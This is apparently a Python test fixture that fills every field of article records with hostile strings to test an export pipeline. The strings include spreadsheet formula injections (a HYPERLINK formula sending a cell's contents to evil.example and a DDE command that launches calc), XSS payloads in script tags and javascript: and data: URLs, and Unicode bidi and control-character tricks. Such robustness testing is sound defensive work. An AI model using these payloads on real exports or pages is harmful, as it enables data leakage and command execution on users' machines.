"""Articles of pages that want to hurt whoever opens an export: what stands in their texts, and a ledger's worth of them."""

from typing import Final

from pipelines.records import Article, Date, Heading, Related, Source

FORMULAS: Final = (
    *('=HYPERLINK("http://evil.example/?"&A1,"Read on")', "+1+1", "-1+1", "@SUM(1)", "\t=1+2", "\r=1+3", "\n=1+4"),
    *("＝1+5", "＋1", "－1", "＠1", "  =1+6", "\u00a0=1+7", "\u200b=1+8", "\ufeff=1+9", "\x0b=1+10", "\x1b=1+11"),
    *("a;=1+12;b", 'a;"=1+13&"', "a\t=1+14\tb", "a\n=1+15\nb", "a\r\n=1+16", "a; =1+17;", "|=1+18|", '"=1+19"'),
    *("=cmd|'/C calc'!A0", "a;\u200b=1+20;b", "a;;=1+21;"),
)
"""What spreadsheets execute: some of it always, some when the file is read with other separators."""

HOSTILE: Final = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]></content><!--",
    "&amp; &lt; \" ' &#0; %00 \\u0000 \\",
    "NUL\x00 control \x01\x08\x0b\x0c\x1a\x1f\x7f\x85 end",
    "\u202egnp.exe\u202c \u2066bidi\u2069 \u200bzero \ufeffwidth \u2028line\u2029",
    "| pipe | and `backtick` *star* _line_ [a](javascript:alert(1)) # --- $x^2$",
    "not a character \ufffe\uffff, an astral one 😀, e\u0301",
    "w" * 100_000,
)
"""Titles that the pages of strangers may have."""


def hostile_articles() -> list[Article]:
    """One for each of ``HOSTILE`` and ``FORMULAS``, which stands in every text of it."""
    return [_hostile(number, text) for number, text in enumerate((*HOSTILE, *FORMULAS))]


def _hostile(number: int, text: str) -> Article:
    return Article(
        title=text,
        url=f"http://evil.example/{number}",
        canonical=f"javascript:alert({number})",
        site="evil",
        kicker=text,
        subtitle=text,
        summary=text,
        image_caption=text,
        text=text,
        language=text,
        image="javascript:alert(1)",
        authors=(text, "Ada Okafor"),
        topics=(text,),
        published=Date(text=text, origin="text", problem=text),
        modified=Date(text=text, origin="text", value="2026-05-12T13:41:07Z", precision="second", zone="offset"),
        outline=(Heading(level=2, heading=text),),
        sources=(
            Source(position=1, label=text, kind="listed", url="javascript:alert(2)", name=text),
            Source(
                position=2, label=text, kind="cited", url="http://harbourwire.example/x", domain="harbourwire.example"
            ),
        ),
        related=(Related(position=1, title=text, url="data:text/html,<script>alert(1)</script>", summary=text),),
    )
